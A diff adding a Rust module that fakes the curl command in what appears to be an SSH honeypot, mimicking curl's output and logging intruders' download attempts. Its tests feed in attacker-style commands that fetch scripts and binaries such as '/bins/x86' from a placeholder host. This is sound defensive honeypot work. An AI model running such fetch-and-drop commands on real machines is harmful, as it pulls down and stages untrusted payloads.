@@ -0,0 +1,385 @@
+use std::{fmt::Write, path::Path};
+
+use async_trait::async_trait;
+use reqwest::Url;
+use thrussh::ChannelId;
+
+use crate::{
+    command::{Command, CommandResult},
+    download::{download, parse_url},
+    server::{ConnectionState, ThrusshSession},
+};
+
+const USER_AGENT: &str = "curl/7.81.0";
+
+const TRY_HELP: &str = "curl: try 'curl --help' or 'curl --manual' for more information\n";
+
+const HELP: &str = "Usage: curl [options...] <url>
+ -d, --data <data>          HTTP POST data
+ -f, --fail                 Fail fast with no output on HTTP errors
+ -h, --help <category>      Get help for commands
+ -i, --include              Include protocol response headers in the output
+ -o, --output <file>        Write to file instead of stdout
+ -O, --remote-name          Write output to a file named as the remote file
+ -s, --silent               Silent mode
+ -T, --upload-file <file>   Transfer local FILE to destination
+ -u, --user <user:password> Server user and password
+ -A, --user-agent <name>    Send User-Agent <name> to server
+ -v, --verbose              Make the operation more talkative
+ -V, --version              Show version number and quit
+
+This is not the full help, this menu is stripped into categories.
+Use \"--help category\" to get an overview of all categories.
+For all options use the manual or \"--help all\".
+";
+
+const VERSION: &str = "curl 7.81.0 (x86_64-pc-linux-gnu) libcurl/7.81.0 OpenSSL/3.0.2 zlib/1.2.11 brotli/1.0.9 zstd/1.4.8 libidn2/2.3.2 libpsl/0.21.0 (+libidn2/2.3.2) libssh/0.9.6/openssl/zlib nghttp2/1.43.0 librtmp/2.3 OpenLDAP/2.5.16
+Release-Date: 2022-01-05
+Protocols: dict file ftp ftps gopher gophers http https imap imaps ldap ldaps mqtt pop3 pop3s rtmp rtsp scp sftp smb smbs smtp smtps telnet tftp
+Features: alt-svc AsynchDNS brotli GSS-API HSTS HTTP2 HTTPS-proxy IDN IPv6 Kerberos Largefile libz NTLM NTLM_WB PSL SPNEGO SSL TLS-SRP UnixSockets zstd
+";
+
+const PROGRESS_HEADER: &str =
+    "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current
+                                 Dload  Upload   Total   Spent    Left  Speed
+";
+
+/// Short options that take a value, which may either be attached (`-ofile`) or passed as the
+/// next argument (`-o file`).
+const SHORT_WITH_VALUE: &[char] = &[
+    'o', 'A', 'H', 'd', 'X', 'u', 'e', 'm', 'x', 'b', 'c', 'T', 'w', 'r', 'C', 'E', 'K', 'F', 'U',
+    'Y', 'y', 'z', 'D', 'Q', 't', 'P',
+];
+
+/// Long options that take a value when not passed using `--option=value`.
+const LONG_WITH_VALUE: &[&str] = &[
+    "output",
+    "url",
+    "user-agent",
+    "header",
+    "data",
+    "data-raw",
+    "data-binary",
+    "request",
+    "user",
+    "referer",
+    "max-time",
+    "proxy",
+    "cookie",
+    "cookie-jar",
+    "upload-file",
+    "write-out",
+    "range",
+    "continue-at",
+    "cert",
+    "config",
+    "form",
+    "connect-timeout",
+    "retry",
+    "retry-delay",
+    "max-redirs",
+    "dump-header",
+    "limit-rate",
+    "resolve",
+    "interface",
+    "cacert",
+    "key",
+];
+
+#[derive(Debug, Clone)]
+pub struct Curl {}
+
+#[async_trait]
+impl Command for Curl {
+    const NAME: &'static str = "curl";
+
+    async fn new<S: ThrusshSession + Send>(
+        connection: &mut ConnectionState,
+        params: &[String],
+        channel: ChannelId,
+        session: &mut S,
+    ) -> CommandResult<Self> {
+        let options = match Options::parse(params) {
+            Ok(options) => options,
+            Err((message, status)) => {
+                session.data(channel, message.to_string().into());
+                return CommandResult::Exit(status);
+            }
+        };
+
+        let mut status = 0;
+
+        for url in &options.urls {
+            if let Err((message, v)) = transfer(&options, url, connection, channel, session).await {
+                if options.show_errors() {
+                    session.data(channel, message.into());
+                }
+
+                status = v;
+            }
+        }
+
+        CommandResult::Exit(status)
+    }
+
+    async fn stdin<S: ThrusshSession + Send>(
+        self,
+        _connection: &mut ConnectionState,
+        _channel: ChannelId,
+        _data: &[u8],
+        _session: &mut S,
+    ) -> CommandResult<Self> {
+        CommandResult::Exit(0)
+    }
+}
+
+#[derive(Debug, Default)]
+struct Options {
+    silent: bool,
+    show_error: bool,
+    remote_name: bool,
+    output: Option<String>,
+    urls: Vec<String>,
+}
+
+impl Options {
+    /// Parses the given arguments, returning the message to print and status to exit with if
+    /// we shouldn't go on to transfer anything.
+    fn parse(params: &[String]) -> Result<Self, (&'static str, u32)> {
+        let mut this = Self::default();
+        let mut params = params.iter();
+
+        while let Some(param) = params.next() {
+            let (option, value) = if let Some(long) = param.strip_prefix("--") {
+                match long.split_once('=') {
+                    Some((option, value)) => (option, Some(value.to_string())),
+                    None if LONG_WITH_VALUE.contains(&long) => (long, params.next().cloned()),
+                    None => (long, None),
+                }
+            } else if let Some(short) = param.strip_prefix('-').filter(|v| !v.is_empty()) {
+                for (i, c) in short.char_indices() {
+                    if SHORT_WITH_VALUE.contains(&c) {
+                        let rest = &short[i + c.len_utf8()..];
+                        let value = if rest.is_empty() {
+                            params.next().cloned().unwrap_or_default()
+                        } else {
+                            rest.to_string()
+                        };
+
+                        if c == 'o' {
+                            this.output = Some(value);
+                        }
+
+                        break;
+                    }
+
+                    match c {
+                        's' => this.silent = true,
+                        'S' => this.show_error = true,
+                        'O' => this.remote_name = true,
+                        'h' => return Err((HELP, 0)),
+                        'V' => return Err((VERSION, 0)),
+                        _ => {}
+                    }
+                }
+
+                continue;
+            } else {
+                this.urls.push(param.clone());
+                continue;
+            };
+
+            match option {
+                "silent" => this.silent = true,
+                "show-error" => this.show_error = true,
+                "remote-name" => this.remote_name = true,
+                "output" => this.output = value,
+                "url" => this.urls.extend(value),
+                "help" => return Err((HELP, 0)),
+                "version" => return Err((VERSION, 0)),
+                _ => {}
+            }
+        }
+
+        if this.urls.is_empty() {
+            return Err((TRY_HELP, 2));
+        }
+
+        Ok(this)
+    }
+
+    fn show_errors(&self) -> bool {
+        !self.silent || self.show_error
+    }
+}
+
+/// Transfers a single URL, returning the error to print and the status curl should exit with
+/// if it failed.
+async fn transfer<S: ThrusshSession + Send>(
+    options: &Options,
+    url: &str,
+    connection: &mut ConnectionState,
+    channel: ChannelId,
+    session: &mut S,
+) -> Result<(), (String, u32)> {
+    let Some(url) = parse_url(url) else {
+        return Err((
+            "curl: (3) URL using bad/illegal format or missing URL\n".to_string(),
+            3,
+        ));
+    };
+
+    let path = if let Some(output) = &options.output {
+        Some(output.clone())
+    } else if options.remote_name {
+        let name = url
+            .path_segments()
+            .and_then(Iterator::last)
+            .filter(|v| !v.is_empty())
+            .ok_or_else(|| ("curl: Remote file name has no length!\n".to_string(), 23))?;
+
+        Some(name.to_string())
+    } else {
+        None
+    };
+
+    let payload = download(connection, Curl::NAME, USER_AGENT, &url, path.as_deref()).await;
+
+    if payload.is_none() && connection.config().download.fetch {
+        // we tried to fetch the payload for real but couldn't
+        return Err((connection_failed(&url), 7));
+    }
+
+    let Some(path) = path else {
+        if let Some(payload) = payload {
+            session.data(channel, payload.to_vec().into());
+        }
+
+        return Ok(());
+    };
+
+    let content = payload.map(|v| v.to_vec()).unwrap_or_default();
+
+    if !options.silent {
+        session.data(channel, progress(content.len()).into());
+    }
+
+    let canonical = connection.file_system().canonicalize(Path::new(&path));
+
+    connection
+        .file_system()
+        .write(&canonical, content.into_boxed_slice())
+        .map_err(|e| (format!("curl: (23) Failed writing body: {path}: {e}\n"), 23))
+}
+
+fn connection_failed(url: &Url) -> String {
+    format!(
+        "curl: (7) Failed to connect to {} port {} after 0 ms: Connection refused\n",
+        url.host_str().unwrap_or_default(),
+        url.port_or_known_default().unwrap_or(80),
+    )
+}
+
+/// Renders curl's progress meter as it would look at the start and end of the transfer.
+fn progress(size: usize) -> String {
+    let size = meter_size(size);
+    let mut out = PROGRESS_HEADER.to_string();
+
+    write!(
+        out,
+        "  0     0    0     0    0     0      0      0 --:--:-- --:--:-- --:--:--     0\r"
+    )
+    .unwrap();
+    writeln!(
+        out,
+        "100 {size:>5}  100 {size:>5}    0     0  {size:>5}      0 --:--:-- --:--:-- --:--:-- {size:>5}"
+    )
+    .unwrap();
+
+    out
+}
+
+/// Formats a size to fit within the five characters curl gives each column of its meter.
+fn meter_size(size: usize) -> String {
+    if size < 100_000 {
+        size.to_string()
+    } else if size < 10_000 * 1024 {
+        format!("{}k", size / 1024)
+    } else {
+        format!("{}M", size / 1024 / 1024)
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use std::path::Path;
+
+    use mockall::predicate::always;
+    use pisshoff_types::audit::AuditLogAction;
+    use test_case::test_case;
+
+    use crate::{
+        command::{curl::Curl, Command, CommandResult},
+        server::{
+            test::{fake_channel_id, predicate::eq_string},
+            ConnectionState, MockThrusshSession,
+        },
+    };
+
+    #[tokio::test]
+    async fn missing_url() {
+        let mut session = MockThrusshSession::default();
+
+        session
+            .expect_data()
+            .once()
+            .with(always(), eq_string(super::TRY_HELP))
+            .returning(|_, _| ());
+
+        let out = Curl::new(
+            &mut ConnectionState::mock(),
+            [].as_slice(),
+            fake_channel_id(),
+            &mut session,
+        )
+        .await;
+
+        assert!(matches!(out, CommandResult::Exit(2)), "{out:?}");
+    }
+
+    #[test_case(&["-fsSL", "http://1.2.3.4/x.sh"], None; "stdout")]
+    #[test_case(&["-sO", "http://1.2.3.4/bins/x86"], Some("/root/x86"); "remote name")]
+    #[test_case(&["-s", "-A", "agent", "1.2.3.4/x", "-o", "/tmp/y"], Some("/tmp/y"); "output")]
+    #[test_case(&["--silent", "--url", "1.2.3.4/x", "--output=/tmp/y"], Some("/tmp/y"); "long options")]
+    #[tokio::test]
+    async fn records_download(params: &[&str], expected_path: Option<&str>) {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+        state.file_system().mkdirall(Path::new("/tmp")).unwrap();
+
+        let params = params.iter().map(ToString::to_string).collect::<Vec<_>>();
+        let out = Curl::new(&mut state, &params, fake_channel_id(), &mut session).await;
+
+        assert!(matches!(out, CommandResult::Exit(0)), "{out:?}");
+
+        if let Some(path) = expected_path {
+            assert!(state.file_system().read(Path::new(path)).is_ok());
+        }
+
+        let events = &state.audit_log().events;
+        assert_eq!(events.len(), 1);
+        let AuditLogAction::DownloadAttempt(event) = &events[0].action else {
+            panic!("expected download attempt, got {:?}", events[0].action);
+        };
+        assert_eq!(event.tool, "curl");
+        assert!(event.url.starts_with("http://1.2.3.4/"), "{}", event.url);
+        assert_eq!(event.output.is_some(), expected_path.is_some());
+    }
+
+    #[test_case(1234, "1234"; "bytes")]
+    #[test_case(512 * 1024, "512k"; "kilobytes")]
+    #[test_case(20 * 1024 * 1024, "20M"; "megabytes")]
+    fn meter_size(size: usize, expected: &str) {
+        assert_eq!(super::meter_size(size), expected);
+    }
+}